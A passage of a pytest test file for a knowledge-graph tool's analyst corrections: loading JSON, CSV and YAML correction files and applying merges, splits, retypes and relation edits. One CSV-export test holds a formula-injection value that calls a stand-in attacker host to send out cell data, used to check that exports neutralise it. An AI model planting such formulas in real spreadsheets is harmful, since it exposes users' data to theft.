"""Corrections: an analyst's merges, splits, renames, retypes, blocks and relation edits last across builds."""

from __future__ import annotations

import csv
import json
import warnings

import pytest

from kgraph.linking import corrections as corr
from kgraph.core.errors import InputError
from kgraph.core.iri import ENTITY_BASE, slug
from kgraph.linking import link
from kgraph.linking.link import link_extractions
from kgraph.core.model import Article, Extraction, Mention, Relation

from .test_identity import _placed


def ex(aid, *mentions, relations=()):
    """Build an extraction from (text, type, name) triples; relations are (subject index, predicate, object index)."""
    out, pos = [], 0
    for text, kind, name in mentions:
        out.append(Mention(text, kind, pos, pos + len(text), name))
        pos += len(text) + 1
    text = " ".join(t for t, _k, _n in mentions)
    rels = tuple(Relation(out[s], p, out[o], 0.8, "rule", text, 0, len(text)) for s, p, o in relations)
    return Extraction(Article(aid, text), tuple(out), rels)


def fixes(*items):
    return corr.parse({"version": 1, "corrections": list(items)})


def by_label(kb):
    return {e.label: e for e in kb.entities}


CORPUS = [
    ex("a1", ("Marta Quell", "Person", "Marta Quell"), ("Borvik Mills", "Organization", "Borvik Mills"),
       relations=[(0, "worksFor", 1)]),
    ex("a2", ("Quell", "Person", "Quell"), ("Tarnholm", "Place", "Tarnholm")),
    ex("a3", ("Oskar Venn", "Person", "Oskar Venn"), ("Tarnholm", "Place", "Tarnholm"),
       ("Borvik", "Organization", "Borvik")),
]


def test_loader_reads_every_action_and_keeps_notes():
    c = fixes({"action": "merge", "entities": ["A", "B"], "keep": "A", "note": "same firm", "author": "ed"},
              {"action": "split", "entity": "Kim", "articles": ["x"]},
              {"action": "reject", "subject": "A", "predicate": "worksFor", "object": "B"})
    assert [i.action for i in c.items] == ["merge", "split", "reject"]
    assert c.items[0].note == "same firm" and c.items[0].author == "ed" and c.items[0].entities == ("A", "B")
    assert c.items[1].articles == ("x",)


@pytest.mark.parametrize("doc, message", [
    ([], "corrections"),
    ({"version": 2, "corrections": []}, "version"),
    ({"corrections": [{"action": "explode", "entity": "A"}]}, "unknown action"),
    ({"corrections": [{"action": "merge", "entities": ["A"]}]}, "at least two"),
    ({"corrections": [{"action": "retype", "entity": "A", "type": "Planet"}]}, "unknown type"),
    ({"corrections": [{"action": "assert", "subject": "A", "predicate": "likes", "object": "B"}]}, "predicate"),
    ({"corrections": [{"action": "block"}]}, "needs 'entity'"),
    ({"corrections": [{"action": "split", "entity": "A"}]}, "'articles' or 'context'"),
    ({"corrections": [{"action": "split", "entity": "A", "context": "club"}]}, "'context' must be a list"),
])
def test_loader_rejects_bad_items_with_one_clear_error(doc, message):
    with pytest.raises(InputError, match=message):
        corr.parse(doc)


def test_a_version_written_as_a_string_of_digits_is_that_version():
    """ "version": "1" is version 1, as in YAML; "2" is refused naming the version, not "'1' ... reads version 1"."""
    assert corr.parse({"version": "1", "corrections": [{"action": "block", "entity": "A"}]}).items[0].entity == "A"
    with pytest.raises(InputError, match=r"unsupported corrections version 2 \(this kgraph reads version 1\)"):
        corr.parse({"version": " 2 ", "corrections": []})


def test_load_reports_bad_json_with_its_position(tmp_path):
    p = tmp_path / "c.json"
    p.write_text("{oops", encoding="utf-8")
    with pytest.raises(InputError, match="not valid JSON"):
        corr.load(p)


@pytest.mark.parametrize("text, message", [
    pytest.param('{"corrections": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply", id="deep"),
    pytest.param('{"version": 1' + "0" * 100_000 + ', "corrections": []}', "not valid JSON", id="long-integer"),
])
def test_load_reports_hostile_json_as_one_error(tmp_path, text, message):
    p = tmp_path / "c.json"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        corr.load(p)


def test_load_refuses_fifos_devices_folders_and_huge_files_without_reading_them(tmp_path, monkeypatch):
    import os

    from kgraph.core import userfile

    fifo = tmp_path / "c.json"
    os.mkfifo(fifo)  # opening it would block forever
    with pytest.raises(InputError, match="FIFO"):
        corr.load(fifo)
    with pytest.raises(InputError, match="character device"):
        corr.load("/dev/zero")  # reading it would never end
    with pytest.raises(InputError, match="folder"):
        corr.load(tmp_path)
    big = tmp_path / "big.json"
    big.write_text('{"corrections": []}' + " " * 2048, encoding="utf-8")
    monkeypatch.setattr(userfile, "MAX_BYTES", 1024)
    with pytest.raises(InputError, match="larger than"):
        corr.load(big)


def test_merge_keeps_one_iri_and_records_the_other_as_same_as():
    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Borvik", "Borvik Mills"], "keep": "Borvik Mills"}))
    ents = by_label(kb)
    assert "Borvik" not in ents
    mills = ents["Borvik Mills"]
    assert mills.articles == ("a1", "a3") and "organization/Borvik" in mills.same_as
    assert mills.corrections and "merge" in mills.corrections[0]


def test_merge_keep_decides_the_label_and_iri():
    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Borvik Mills", "Borvik"],
                                         "keep": "Borvik"}))
    ents = by_label(kb)
    assert ents["Borvik"].key == "organization/Borvik" and "organization/Borvik_Mills" in ents["Borvik"].same_as


def test_split_moves_the_mentions_of_the_named_articles_to_a_new_entity():
    kb = link_extractions(CORPUS, fixes({"action": "split", "entity": "Tarnholm", "articles": ["a3"],
                                         "label": "Tarnholm FC", "type": "Organization"}))
    ents = by_label(kb)
    assert ents["Tarnholm"].articles == ("a2",)
    assert ents["Tarnholm FC"].type == "Organization" and ents["Tarnholm FC"].articles == ("a3",)


def sentences(aid, *parts):
    """Build an extraction of several sentences; each part is (sentence, [(name, type), ...])."""
    text, mentions = "", []
    for sentence, names in parts:
        base = len(text)
        for name, kind in names:
            at = sentence.index(name)
            mentions.append(Mention(name, kind, base + at, base + at + len(name), name))
        text += sentence + " "
    return Extraction(Article(aid, text.strip()), tuple(mentions))


CLUB_AND_TOWN = [
    sentences("c1", ("The mayor of Pellum opened a bridge over the river.", [("Pellum", "Place")]),
              ("Fans of Pellum cheered when the club signed a new coach.", [("Pellum", "Place")])),
    sentences("c2", ("Pellum lost the match 0-2 at home.", [("Pellum", "Place")]),
              ("Snow closed the roads near Pellum on Monday.", [("Pellum", "Place")])),
]


def test_split_by_context_moves_only_the_mentions_whose_sentence_holds_a_context_word():
    kb = link_extractions(CLUB_AND_TOWN, fixes({"action": "split", "entity": "Pellum", "context": ["club", "match"],
                                                "label": "Pellum FC", "type": "Organization"}))
    ents = by_label(kb)
    assert ents["Pellum FC"].type == "Organization" and ents["Pellum FC"].mentions == 2
    assert ents["Pellum"].type == "Place" and ents["Pellum"].mentions == 2
    assert any("split" in n for n in ents["Pellum FC"].corrections)


def test_split_by_context_reads_past_the_dots_of_initials_titles_and_dates():
    """"Kim joined the U.S. club in Sept. 2010 under Dr. Vell" is one sentence: the split finds "club" for Kim
    and for Vell; "Kim waved. The club lost." is two."""
    corpus = [sentences("k1", ("Kim Sol joined the U.S. club in Sept. 2010 under Dr. Vell Arno.",
                               [("Kim Sol", "Person"), ("Vell Arno", "Person")]),
                        ("Kim Sol waved.", [("Kim Sol", "Person")]),
                        ("The club lost.", []))]
    kb = link_extractions(corpus, fixes({"action": "split", "entity": "Kim Sol", "context": ["club"],
                                         "label": "Kim Sol (player)"},
                                        {"action": "split", "entity": "Vell Arno", "context": ["club"],
                                         "label": "Vell Arno (coach)"}))
    ents = by_label(kb)
    assert ents["Kim Sol (player)"].mentions == 1 and ents["Kim Sol"].mentions == 1
    assert ents["Vell Arno (coach)"].mentions == 1 and "Vell Arno" not in ents


def test_split_by_context_and_articles_needs_both():
    kb = link_extractions(CLUB_AND_TOWN, fixes({"action": "split", "entity": "Pellum", "context": ["match", "club"],
                                                "articles": ["c2"], "label": "Pellum FC"}))
    ents = by_label(kb)
    assert ents["Pellum FC"].mentions == 1 and ents["Pellum FC"].articles == ("c2",)
    assert ents["Pellum"].mentions == 3


def test_split_context_is_whole_words_case_folded():
    """'Club' matches 'club'; 'coach' does not match inside 'coaches' or 'stagecoach'."""
    pattern = link._context_pattern(("Club", "new coach"))
    assert pattern.search("when the club signed a  new\ncoach")
    assert not pattern.search("stagecoach clubs and coaches")


def test_a_split_that_moves_every_mention_replaces_the_entity_and_keeps_its_iri():
    kb = link_extractions(CLUB_AND_TOWN, fixes({"action": "split", "entity": "Pellum",
                                                "context": ["Pellum"], "type": "Organization"}))
    ents = by_label(kb)
    assert ents["Pellum"].type == "Organization" and ents["Pellum"].mentions == 4
    assert "place/Pellum" in ents["Pellum"].same_as and len(kb.entities) == 1


def test_a_split_with_no_matching_context_is_a_warning():
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        kb = link_extractions(CLUB_AND_TOWN, fixes({"action": "split", "entity": "Pellum", "context": ["stadium"]}))
    assert any("that context" in str(w.message) for w in caught)
    assert [e.label for e in kb.entities] == ["Pellum"]


def test_retype_rename_and_block():
    kb = link_extractions(CORPUS, fixes({"action": "retype", "entity": "Tarnholm", "type": "Organization"},
                                        {"action": "rename", "entity": ENTITY_BASE + "person/Oskar_Venn",
                                         "label": "Oskar J. Venn"},
                                        {"action": "block", "entity": "Borvik"}))
    ents = by_label(kb)
    assert ents["Tarnholm"].type == "Organization" and "place/Tarnholm" in ents["Tarnholm"].same_as
    assert "Oskar J. Venn" in ents and "Oskar Venn" not in ents
    assert "Borvik" not in ents and all("a3" not in e.articles or e.label != "Borvik" for e in kb.entities)


def test_a_retype_says_which_relations_its_new_type_cannot_hold():
    """Marta Quell worksFor Borvik Mills: retyping the firm a place drops the relation, with a warning and a note."""
    with pytest.warns(UserWarning, match=r"#1 retype Borvik Mills -> Place: drops 1 relation that does not fit a "
                                         r"Place: Marta Quell worksFor Borvik Mills"):
        kb = link_extractions(CORPUS, fixes({"action": "retype", "entity": "Borvik Mills", "type": "Place"}))
    ents = by_label(kb)
    assert ents["Borvik Mills"].corrections == ("#1 retype Borvik Mills -> Place: dropped 1 relation that does not "
                                                "fit a Place: Marta Quell worksFor Borvik Mills",)
    assert ents["Marta Quell"].corrections == ()  # the person was not retyped: her relation went with the firm


def test_a_retype_that_keeps_every_relation_says_nothing_more():
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        kb = link_extractions(CORPUS, fixes({"action": "retype", "entity": "Tarnholm", "type": "Country"}))
    assert by_label(kb)["Tarnholm"].corrections == ("#1 retype Tarnholm -> Country",)


def test_a_block_is_recorded_in_the_graphs_provenance():
    from rdflib import Literal, RDFS

    from kgraph.graph import rdf

    kb = link_extractions(CORPUS, fixes({"action": "block", "entity": "Borvik", "note": "a shortened firm name"}))
    # who made the item and why are recorded with it (stop 65: a provenance query answers who corrected what)
    assert kb.removed == ("#1 block Borvik (a shortened firm name): removed organization/Borvik (1 mention in 1 "
                          "article)",)
    comments = set(rdf.to_graph(kb).objects(rdf.CORRECTIONS_SOURCE, RDFS.comment))
    assert Literal("correction " + kb.removed[0]) in comments
    assert link_extractions(CORPUS).removed == ()


def test_reject_and_assert_relations():
    kb = link_extractions(CORPUS, fixes(
        {"action": "reject", "subject": "Marta Quell", "predicate": "worksFor", "object": "Borvik Mills"},
        {"action": "assert", "subject": "Oskar Venn", "predicate": "livesIn", "object": "Tarnholm", "note": "t"}))
    facts = {(f.subject, f.predicate, f.object): f for f in kb.facts}
    assert ("person/Marta_Quell", "worksFor", "organization/Borvik_Mills") not in facts
    added = facts[("person/Oskar_Venn", "livesIn", "place/Tarnholm")]
    assert added.method == "correction" and added.note == "#2 assert Oskar Venn livesIn Tarnholm: t"
    assert not added.evidence
    ents = by_label(kb)
    assert any("reject" in n for n in ents["Marta Quell"].corrections)


def test_an_item_naming_no_entity_is_a_warning_not_an_error():
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        kb = link_extractions(CORPUS, fixes({"action": "block", "entity": "Nobody Known"}))
    assert any("Nobody Known" in str(w.message) for w in caught)
    assert len(kb.entities) == len(link_extractions(CORPUS).entities)


@pytest.mark.parametrize("entities", [["person/Nobody_Known", "person/Nobody_Else"],
                                      ["person/Nobody_Known", "Nobody Else"]], ids=["two keys", "key and name"])
def test_a_merge_naming_only_absent_entities_warns_about_each(entities):
    """Two keys the graph never held: a warning per key, as for any other item (was: silently nothing)."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": entities}))
    said = [str(w.message) for w in caught]
    assert all(any(f"no entity {e!r} in the graph; skipped" in m for m in said) for e in entities), said
    assert kb.entities == link_extractions(CORPUS).entities


def _build_corpus_a1_a2(monkeypatch, pipeline, out, fix):
    """Build articles a1 and a2 of CORPUS into ``out`` with the corrections ``fix``, extraction faked."""
    by_id = {e.article.id: e for e in CORPUS}

    def fake_runner(jobs, dask, model, batch_size):
        def run(todo):
            for key, art in todo:
                yield key, by_id[art.id]
        return run

    monkeypatch.setattr(pipeline, "_runner", fake_runner)
    monkeypatch.setattr(pipeline.ingest, "read_inputs",
                        lambda inputs, skip_bad=False: iter([by_id[i].article for i in inputs]))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Borvik is not in the first two articles yet
        pipeline.build(["a1", "a2"], output=out, corrections=fix)


def test_corrections_survive_an_incremental_build_and_reach_the_graph(tmp_path, monkeypatch):
    """Corrections apply on a --into build too (the file is remembered) and the graph says so."""
    from kgraph.build import pipeline

    out = tmp_path / "out"
    fix = tmp_path / "fix.json"
    fix.write_text(corr.to_json([{"action": "merge", "entities": ["Borvik", "Borvik Mills"]},
                                 {"action": "split", "entity": "Tarnholm", "context": ["Oskar"],
                                  "label": "Tarnholm FC", "type": "Organization"},
                                 {"action": "assert", "subject": "Oskar Venn", "predicate": "livesIn",
                                  "object": "Tarnholm"}]), encoding="utf-8")
    _build_corpus_a1_a2(monkeypatch, pipeline, out, fix)
    kb = pipeline.build(["a3"], output=out, into=True).kb  # no --corrections: the remembered file applies
    ents = by_label(kb)
    assert "Borvik" not in ents and ents["Borvik Mills"].articles == ("a1", "a3")
    assert ents["Tarnholm FC"].articles == ("a3",) and ents["Tarnholm"].articles == ("a2",)
    ttl = (out / "graph.ttl").read_text(encoding="utf-8")
    assert '"correction"' in ttl and "prov:wasInfluencedBy" in ttl and "owl:sameAs <https://w3id.org/kgraph/id/organization/Borvik>" in ttl


def test_output_corrections_json_is_read_by_default(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / "corrections.json").write_text(json.dumps({"version": 1, "corrections": []}), encoding="utf-8")
    from kgraph.build.pipeline import _corrections

    assert _corrections(out, None) is not None and _corrections(tmp_path / "none", None) is None


@pytest.mark.parametrize("make", ["folder", "fifo", "device link"])
def test_a_folders_own_corrections_name_that_is_no_file_is_an_error_not_skipped(tmp_path, make):
    import os

    from kgraph.build.pipeline import _corrections

    out = tmp_path / "o"
    out.mkdir()
    p = out / "corrections.json"
    {"folder": p.mkdir, "fifo": lambda: os.mkfifo(p), "device link": lambda: p.symlink_to("/dev/zero")}[make]()
    with pytest.raises(InputError, match="cannot read corrections file"):
        _corrections(out, None)


def test_build_with_a_bad_corrections_file_is_one_error_line_and_writes_nothing(tmp_path):
    from click.testing import CliRunner

    from kgraph.cli import main

    art = tmp_path / "a.txt"
    art.write_text("Marta Quell works for Borvik Mills.", encoding="utf-8")
    bad = tmp_path / "c.json"
    bad.write_text('{"version": 1, "corrections": [{"action": "explode", "entity": "x"}]}', encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(art), "--output", str(out), "--quiet", "--corrections", str(bad)])
    assert result.exit_code == 1
    assert result.output.startswith("Error:") and "unknown action" in result.output and result.output.count("\n") == 1
    assert not out.exists()


CSV_TEXT = (
    "\ufeffAction,entities,keep,entity,label,type,subject,predicate,object,context,note\n"
    "merge,Borvik; Borvik Mills,Borvik Mills,,,,,,,,same firm\n"
    ",,,,,,,,,,\n"
    "split,,,Tarnholm,Tarnholm FC,Organization,,,,coach;match,\n"
    "retype,,,Quell,,Place,,,,,\n"
    "reject,,,,,,Marta Quell,worksFor,Borvik Mills,,\"wrong, says the editor\"\n"
)


def test_a_csv_file_holds_the_same_items_as_json(tmp_path):
    """A spreadsheet's CSV (header of field names, ';' between list values, empty cells left out) loads as items."""
    p = tmp_path / "fixes.CSV"
    p.write_text(CSV_TEXT, encoding="utf-8")
    got = corr.load(p)
    assert [c.action for c in got.items] == ["merge", "split", "retype", "reject"]
    merge, split, retype, reject = got.items
    assert merge.entities == ("Borvik", "Borvik Mills") and merge.keep == "Borvik Mills" and merge.note == "same firm"
    assert split.context == ("coach", "match") and split.label == "Tarnholm FC" and split.articles == ()
    assert retype.type == "Place" and reject.note == "wrong, says the editor"
    assert corr.parse(json.loads(corr.dump(got))).items == got.items  # dumped as JSON, nothing lost


@pytest.mark.parametrize("text, message", [
    ("entity,label\nAcme,Acme Corp\n", "no 'action' column"),
    ("", "empty CSV"),
    ("action,entity,label\nrename,Acme\n", "a rename needs 'label'"),
    ("action,entity\nblock,Acme,extra\n", "row 2: 3 cells under a header of 2"),
    ("action,entity,type\nretype,Acme,Planet\n", "unknown type 'Planet'"),
])
def test_a_bad_csv_is_one_clear_error_naming_the_row(tmp_path, text, message):
    p = tmp_path / "c.csv"
    p.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        corr.load(p)


def test_a_csv_typed_with_a_space_after_each_comma_reads_its_quoted_cells(tmp_path):
    """A hand-written CSV puts a space after each comma: a quoted cell is still one cell, without its quotes."""
    p = tmp_path / "c.csv"
    p.write_text('action, entity, label\nrename, "Borvik", "Borvik Mills, Ltd"\nblock, "Quell"\n', encoding="utf-8")
    items = corr.load(p).items
    assert [(i.action, i.entity, i.label) for i in items] == [("rename", "Borvik", "Borvik Mills, Ltd"),
                                                               ("block", "Quell", None)]


def test_a_label_typed_over_two_lines_is_one_name():
    """A spreadsheet cell written with Alt+Enter holds a line break: the graph's label has a space there."""
    (item,) = corr.parse_csv('action,entity,label\nrename,Borvik,"Borvik\n  Mills\tLtd"\n').items
    assert item.label == "Borvik Mills Ltd"


def test_output_corrections_csv_is_read_by_default_but_not_beside_json(tmp_path):
    from kgraph.build.pipeline import _corrections

    out = tmp_path / "o"
    out.mkdir()
    (out / "corrections.csv").write_text("action,entity\nblock,However\n", encoding="utf-8")
    assert [c.entity for c in _corrections(out, None).items] == ["However"]
    (out / "corrections.json").write_text(json.dumps({"version": 1, "corrections": []}), encoding="utf-8")
    with pytest.raises(InputError, match="both corrections.json and corrections.csv"):
        _corrections(out, None)


@pytest.mark.parametrize("name, text", [
    ("fixes.json", '\ufeff{"version": 1,\r\n "corrections": [{"action": "block", "entity": "Tarnholm"}]}\r\n'),
    ("fixes.csv", "\ufeffaction,entity\r\n\r\nblock,Tarnholm\r\n"),
    ("fixes.yaml", "\ufeffversion: 1\r\ncorrections:\r\n  # seen in a4\r\n\r\n  - {action: block, entity: Tarnholm}\r\n"),
])
def test_a_file_saved_with_a_byte_order_mark_and_crlf_reads_in_every_form(tmp_path, name, text):
    """Notepad and Excel's "CSV UTF-8" start a file with a byte-order mark: JSON reads it too, as CSV and YAML do."""
    p = tmp_path / name
    p.write_bytes(text.encode("utf-8"))
    assert [(c.action, c.entity) for c in corr.load(p).items] == [("block", "Tarnholm")]


def test_actions_types_and_predicates_are_read_in_any_case():
    """A spreadsheet capitalizes a cell's first letter ("Merge"); an analyst writes "place", "bornin"."""
    c = fixes({"action": " Retype", "entity": "Tarnholm", "type": "organization"},
              {"action": "REJECT", "subject": "Marta Quell", "predicate": "worksfor", "object": "Borvik Mills"})
    assert [(i.action, i.type, i.predicate) for i in c.items] == [("retype", "Organization", None),
                                                                  ("reject", None, "worksFor")]
    kb = link_extractions(CORPUS, c)
    assert by_label(kb)["Tarnholm"].type == "Organization" and not kb.facts
    with pytest.raises(InputError, match="unknown type 'Town'"):
        fixes({"action": "retype", "entity": "Tarnholm", "type": "Town"})


@pytest.mark.parametrize("predicate, type_", [("kg:worksFor", "kg:Organization"),
                                              ("<https://w3id.org/kgraph/ontology#worksFor>", "Organisation"),
                                              ("https://w3id.org/kgraph/ontology#worksFor", "ORG")])
def test_a_predicate_or_type_copied_from_the_graph_or_spelt_another_way_is_read(predicate, type_):
    """`kgraph query` prints "kg:worksFor"; Turtle the ontology IRI; a British analyst writes "Organisation"."""
    c = fixes({"action": "reject", "subject": "Marta Quell", "predicate": predicate, "object": "Borvik Mills"},
              {"action": "retype", "entity": "Tarnholm", "type": type_})
    assert [(i.predicate, i.type) for i in c.items] == [("worksFor", None), (None, "Organization")]
    with pytest.raises(InputError, match="unknown predicate 'kg:likes'"):
        fixes({"action": "reject", "subject": "A", "predicate": "kg:likes", "object": "B"})


def test_a_csv_row_starting_with_a_hash_is_a_comment_unless_it_names_an_action():
    c = corr.parse_csv("entity,action,type\n# checked by ed, 3 May\n#Tarnholm,block,\nOskar Venn,retype,Place\n")
    assert [(i.action, i.entity) for i in c.items] == [("block", "#Tarnholm"), ("retype", "Oskar Venn")]
    assert [i.index for i in c.items] == [0, 1]
    c = corr.parse_csv("action,entity\n# one note\nblock,Tarnholm\n#,\n")
    assert [(i.action, i.entity) for i in c.items] == [("block", "Tarnholm")]


def test_a_given_csv_is_remembered_as_json_for_incremental_builds(tmp_path, monkeypatch):
    """--corrections fixes.csv applies now and, remembered as JSON, on a later --into build that names none."""
    from kgraph.build import pipeline

    out = tmp_path / "out"
    fix = tmp_path / "fixes.csv"
    fix.write_text("action,entities,entity,label,type,context\nmerge,Borvik;Borvik Mills,,,,\n"
                   "split,,Tarnholm,Tarnholm FC,Organization,Oskar\n", encoding="utf-8")
    _build_corpus_a1_a2(monkeypatch, pipeline, out, fix)
    remembered = json.loads((out / ".kgraph" / "corrections.json").read_text(encoding="utf-8"))
    assert remembered["corrections"][0] == {"action": "merge", "entities": ["Borvik", "Borvik Mills"]}
    kb = pipeline.build(["a3"], output=out, into=True).kb
    ents = by_label(kb)
    assert "Borvik" not in ents and ents["Borvik Mills"].articles == ("a1", "a3")
    assert ents["Tarnholm FC"].articles == ("a3",)



def namesakes():
    """Return (facts, entities): a town and a club both labelled 'Pellum' (the town more mentioned)."""
    from kgraph.core.model import Entity, Fact

    ents = {1: Entity("person/Ilse_Varga", "Person", "Ilse Varga", mentions=2),
            2: Entity("person/Odo_Brandt", "Person", "Odo Brandt", mentions=1),
            3: Entity("place/Pellum", "Place", "Pellum", mentions=5),
            4: Entity("organization/Pellum", "Organization", "Pellum", aliases=("Pellum FC",), mentions=2)}
    rel = Relation(Mention("Ilse Varga", "Person", 0, 10, "Ilse Varga"), "worksFor",
                   Mention("Pellum", "Organization", 21, 27, "Pellum"),
                   0.8, "rule", "Ilse Varga plays for Pellum.", 0, 27)
    return [Fact("person/Ilse_Varga", "worksFor", "organization/Pellum", (("n1", rel),))], ents


def test_a_reject_naming_a_shared_label_finds_the_namesake_that_holds_the_relation():
    """Rejecting 'Ilse Varga worksFor Pellum' removes the club's relation, though the town is more mentioned."""
    facts, ents = namesakes()
    item = {"action": "reject", "subject": "Ilse Varga", "predicate": "worksFor", "object": "Pellum"}
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no "no such relation" warning
        assert link._apply_fact_corrections(facts, ents, fixes(item)) == []
    assert ents[1].corrections and not ents[2].corrections
    facts, ents = namesakes()
    with pytest.warns(UserWarning, match="holds no such relation"):
        kept = link._apply_fact_corrections(facts, ents, fixes({**item, "predicate": "memberOf"}))
    assert kept == facts


def test_an_assert_naming_a_shared_label_warns_with_the_keys_to_choose_from():
    facts, ents = namesakes()
    item = {"action": "assert", "subject": "Odo Brandt", "predicate": "livesIn", "object": "Pellum"}
    with pytest.warns(UserWarning, match=r"'Pellum' names 2 entities \(place/Pellum, organization/Pellum\); "
                                         r"asserted for the most mentioned, place/Pellum; name one by its key"):
        out = link._apply_fact_corrections(facts, ents, fixes(item))
    assert [(f.object, f.method) for f in out if f.predicate == "livesIn"] == [("place/Pellum", "correction")]
    facts, ents = namesakes()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # named by key, or by an alias only one entity has: no warning
        out = link._apply_fact_corrections(facts, ents, fixes({**item, "predicate": "memberOf",
                                                               "object": "organization/Pellum"},
                                                              {**item, "predicate": "memberOf", "object": "Pellum FC"}))
    assert [f.object for f in out if f.predicate == "memberOf"] == ["organization/Pellum"]


def test_an_assert_picks_the_namesake_whose_type_fits_and_refuses_one_that_fits_none():
    """'memberOf Pellum' is the club though the town is more mentioned; 'livesIn' a person, or oneself, is refused."""
    facts, ents = namesakes()
    item = {"action": "assert", "subject": "Odo Brandt", "predicate": "memberOf", "object": "Pellum"}
    with pytest.warns(UserWarning, match=r"asserted for the one that fits, organization/Pellum"):
        out = link._apply_fact_corrections(facts, ents, fixes(item))
    assert [(f.object, f.method) for f in out if f.predicate == "memberOf"] == [("organization/Pellum", "correction")]
    for bad, why in ((dict(predicate="livesIn", object="Ilse Varga"), "does not fit person/Odo_Brandt .Person. to "
                      "person/Ilse_Varga .Person.; retype one of them first; skipped"),
                     (dict(predicate="worksFor", object="Odo Brandt"), "names one entity twice; skipped")):
        facts, ents = namesakes()
        with pytest.warns(UserWarning, match=why):
            assert link._apply_fact_corrections(facts, ents, fixes({**item, **bad})) == facts
        assert not ents[2].corrections  # nothing asserted, so the subject does not claim a correction


def test_an_assert_takes_the_entity_a_name_is_an_alias_of_when_the_one_it_labels_does_not_fit():
    """'Pellum' labels the town and is the club's short name (or the label a later rename took from the club, as
    relation items are applied after entity items): worksFor Pellum is the club, with a warning naming both."""
    corpus = [ex("c1", ("Ivo Brant", "Person", "Ivo Brant"), ("Pellum FC", "Organization", "Pellum FC"),
                 ("Pellum", "Organization", "Pellum")),
              ex("c2", ("Pellum", "Place", "Pellum"), ("Pellum", "Place", "Pellum"))]
    with pytest.warns(UserWarning, match=r"'Pellum' names 2 entities \(organization/Pellum_FC, place/Pellum\); "
                                         r"asserted for the one that fits"):
        kb = link_extractions(corpus, fixes({"action": "assert", "subject": "Ivo Brant", "predicate": "worksFor",
                                             "object": "Pellum"}))
    assert [(f.subject, f.predicate, f.object) for f in kb.facts if f.method == "correction"] == [
        ("person/Ivo_Brant", "worksFor", "organization/Pellum_FC")]


def test_an_entity_correction_naming_two_entities_warns_with_their_keys():
    """'Anna' is another name of two persons: the retype goes to the more mentioned, and the warning says so."""
    corpus = [ex("k1", ("Anna Roe", "Person", "Anna Roe"), ("Anna", "Person", "Anna Roe"), ("Anna", "Person", "Anna Roe")),
              ex("k2", ("Anna Berg", "Person", "Anna Berg"), ("Anna", "Person", "Anna Berg"))]
    assert {e.label for e in link_extractions(corpus).entities} == {"Anna Roe", "Anna Berg"}
    with pytest.warns(UserWarning, match=r"'Anna' names 2 entities \(person/Anna_Roe, person/Anna_Berg\); applied to "
                                         r"the most mentioned"):
        kb = link_extractions(corpus, fixes({"action": "retype", "entity": "Anna", "type": "Organization"}))
    assert {e.label: e.type for e in kb.entities} == {"Anna Roe": "Organization", "Anna Berg": "Person"}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        kb = link_extractions(corpus, fixes({"action": "retype", "entity": "person/Anna_Berg", "type": "Organization"}))
    assert {e.label: e.type for e in kb.entities} == {"Anna Roe": "Person", "Anna Berg": "Organization"}


@pytest.mark.parametrize("text", [
    "action;entities;note\nmerge;Borvik|Borvik Mills;\"same; firm\"\n",
    "action\tentities\tnote\nmerge\tBorvik;Borvik Mills\tsame; firm\n",
], ids=["semicolons", "tabs"])
def test_a_csv_separated_by_semicolons_or_tabs_reads_the_same(tmp_path, text):
    """A spreadsheet in a European locale writes ';' between fields; lists then use '|'."""
    p = tmp_path / "fixes.csv"
    p.write_text(text, encoding="utf-8")
    (item,) = corr.load(p).items
    assert item.entities == ("Borvik", "Borvik Mills") and item.note == "same; firm"


def test_csv_written_by_kgraph_runs_no_formula_and_reads_back_the_same():
    items = [{"action": "rename", "entity": '=HYPERLINK("http://evil.example/?"&A1,"open")', "label": "'=1+1"},
             {"action": "merge", "entities": ["@Tova Brenn", "-Ilse", "Marr"]},
             {"action": "block", "entity": "+Varnholm"}, {"action": "block", "entity": "Plain Name"}]
    text = corr.to_csv(items)
    for row in text.splitlines()[1:]:
        for cell in next(csv.reader([row])):
            assert cell[:1] not in ("=", "+", "-", "@"), cell
    assert [c.as_item() for c in corr.parse_csv(text).items] == items


# --- Chained and conflicting items (round 27): a defined result, a warning that says why, never a traceback.

def _keys(kb):
    return {e.key: e for e in kb.entities}


def test_a_merge_undone_by_a_split_leaves_no_sameas_between_the_two():
    """merge A+B then split B back out: B gets its IRI back and A no longer claims to be B."""
    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                         "keep": "Marta Quell"},
                                        {"action": "split", "entity": "Oskar Venn", "articles": ["a3"],
                                         "label": "Oskar Venn"}))
    ents = _keys(kb)
    assert "person/Oskar_Venn" in ents and ents["person/Oskar_Venn"].articles == ("a3",)
    assert all("person/Oskar_Venn" not in e.same_as for e in kb.entities)
    assert "Oskar Venn" not in ents["person/Marta_Quell"].aliases


@pytest.mark.parametrize("named", ["Marta Quell", "Oskar Venn", "person/Marta_Quell"])
def test_a_split_without_a_label_after_a_merge_hands_back_the_absorbed_name_and_iri(named):
    """merge A+B then split B's article out, naming the merged entity any way and giving no label."""
    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                         "keep": "Marta Quell"},
                                        {"action": "split", "entity": named, "articles": ["a3"]}))
    ents = _keys(kb)
    assert ents["person/Oskar_Venn"].label == "Oskar Venn" and ents["person/Oskar_Venn"].articles == ("a3",)
    assert all("person/Oskar_Venn" not in e.same_as for e in kb.entities)
    assert "Oskar Venn" not in ents["person/Marta_Quell"].aliases


def test_the_iri_a_split_hands_back_names_that_entity_in_later_items():
    """merge A into B, split A's article back out (A's IRI returns), then an item naming A's IRI: A, not B."""
